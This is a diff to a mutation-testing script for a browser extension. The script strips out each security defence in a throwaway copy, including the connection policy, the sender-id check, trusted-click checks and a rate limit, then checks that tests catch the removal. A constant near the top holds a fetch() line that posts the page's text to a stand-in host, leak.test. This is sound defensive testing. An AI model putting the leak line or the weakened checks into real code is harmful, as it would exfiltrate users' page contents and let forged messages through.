@@ -20,7 +20,7 @@ const LEAK =
   "fetch('http://leak.test/', { method: 'POST', mode: 'no-cors', body: String(document.body?.textContent) }).catch(() => {});";
 const CONTENT_START = "import { EngineClient } from '../protocol/engineClient.ts';";
 
-const MUTATIONS: Mutation[] = [
+export const MUTATIONS: readonly Mutation[] = [
   {
     defence: 'the policy forbids connections',
     edits: [{ file: 'manifest.json', from: "connect-src 'none'", to: 'connect-src *' }],
@@ -77,8 +77,8 @@ const MUTATIONS: Mutation[] = [
     edits: [
       {
         file: 'src/protocol/sender.ts',
-        from: 'if (!sender || !ownId || sender.id !== ownId) return null;',
-        to: 'if (!sender || !ownId) return null;',
+        from: 'return Boolean(id) && id === chrome.runtime.id;',
+        to: 'return Boolean(id);',
       },
     ],
     noticedBy: { unit: 'test/unit/protocol/sender.test.ts' },
@@ -95,6 +95,39 @@ const MUTATIONS: Mutation[] = [
     noticedBy: { browser: 'test/e2e/stranger.spec.ts' },
   },
   {
+    defence: 'a page may ask for little',
+    edits: [
+      {
+        file: 'src/protocol/messages.ts',
+        from: "page: ['state', 'classify',",
+        to: "page: ['lessons', 'state', 'classify',",
+      },
+    ],
+    noticedBy: { unit: 'test/unit/engine/engine.test.ts' },
+  },
+  {
+    defence: 'a private window teaches nothing',
+    edits: [
+      {
+        file: 'src/protocol/messages.ts',
+        from: "private: ['state', 'classify', 'explain'],",
+        to: "private: ['state', 'classify', 'explain', 'teach'],",
+      },
+    ],
+    noticedBy: { unit: 'test/unit/engine/progress.test.ts' },
+  },
+  {
+    defence: 'pages of a site give no more lessons than a hand could',
+    edits: [
+      {
+        file: 'src/engine/answers/lessons.ts',
+        from: 'if (recent.length >= MOST_A_MINUTE) {',
+        to: 'if (recent.length === -1) {',
+      },
+    ],
+    noticedBy: { unit: 'test/unit/engine/rate.test.ts' },
+  },
+  {
     defence: 'a covered card takes no clicks',
     edits: [{ file: 'src/content/exposure.ts', from: 'trackVisibility: true', to: 'trackVisibility: false' }],
     noticedBy: { browser: 'test/e2e/content.spec.ts', title: 'takes no clicks' },
@@ -105,8 +138,8 @@ const MUTATIONS: Mutation[] = [
       { file: 'src/content/card.ts', from: 'if (!event.isTrusted) return false;', to: '' },
       {
         file: 'src/content/badges.ts',
-        from: 'onclick: (event) => event.isTrusted && this',
-        to: 'onclick: (event) => this',
+        from: 'onclick: (event) => event.isTrusted && measure',
+        to: 'onclick: (event) => measure',
       },
     ],
     noticedBy: { browser: 'test/e2e/content.spec.ts', title: 'no person made' },
@@ -118,7 +151,13 @@ const MUTATIONS: Mutation[] = [
   },
   {
     defence: 'a lesson is on the disk before it is acknowledged',
-    edits: [{ file: 'src/engine/store.ts', from: "durability: 'strict'", to: "durability: 'relaxed'" }],
+    edits: [
+      {
+        file: 'src/engine/store.ts',
+        from: "database.transaction(ALL, 'readwrite', { durability: 'strict' })",
+        to: "database.transaction(ALL, 'readwrite', { durability: 'relaxed' })",
+      },
+    ],
     noticedBy: { unit: 'test/unit/engine/store.test.ts' },
   },
   {
@@ -152,8 +191,16 @@ const MUTATIONS: Mutation[] = [
   },
 ];
 
-/** Takes each defence away in a copy of the project. Returns whether all were noticed. */
-export function mutate(root: string): boolean {
+/** A defence that was taken away, and whether that was noticed. */
+export interface Mutated {
+  defence: string;
+  /** What had to notice. */
+  by: string;
+  isNoticed: boolean;
+}
+
+/** Takes each defence away in a copy of the project. @throws Error when a check fails with all of them in place. */
+export function mutate(root: string): Mutated[] {
   const copy = mkdtempSync(join(tmpdir(), 'inkling-mutated-'));
   try {
     const left = new Set(['node_modules', 'dist', 'out', 'test-results', '.git', 'PROOF.md']);
@@ -165,7 +212,7 @@ export function mutate(root: string): boolean {
       if (!passes(copy, check))
         throw new Error(`fails with every defence in place: ${JSON.stringify(check)}`);
     }
-    let unnoticed = 0;
+    const mutated: Mutated[] = [];
     for (const { defence, edits, noticedBy } of MUTATIONS) {
       const before = edits.map(({ file }) => readFileSync(join(copy, file), 'utf8'));
       for (const { file, from, to } of edits) edit(join(copy, file), from, to);
@@ -173,14 +220,18 @@ export function mutate(root: string): boolean {
       edits.forEach(({ file }, i) => {
         writeFileSync(join(copy, file), before[i]);
       });
-      if (!isNoticed) unnoticed++;
+      mutated.push({ defence, by: nameOf(noticedBy), isNoticed });
       console.log(`${isNoticed ? 'noticed  ' : 'UNNOTICED'} without: ${defence}`);
     }
-    console.log(`${MUTATIONS.length - unnoticed} of ${MUTATIONS.length} missing defences noticed`);
-    return unnoticed === 0;
+    return mutated;
   } finally {
     rmSync(copy, { recursive: true, force: true });
   }
+}
+
+function nameOf(check: Check): string {
+  if (check === 'build') return 'the build';
+  return `\`${'unit' in check ? check.unit : check.browser}\``;
 }
 
 function edit(path: string, from: string, to: string): void {
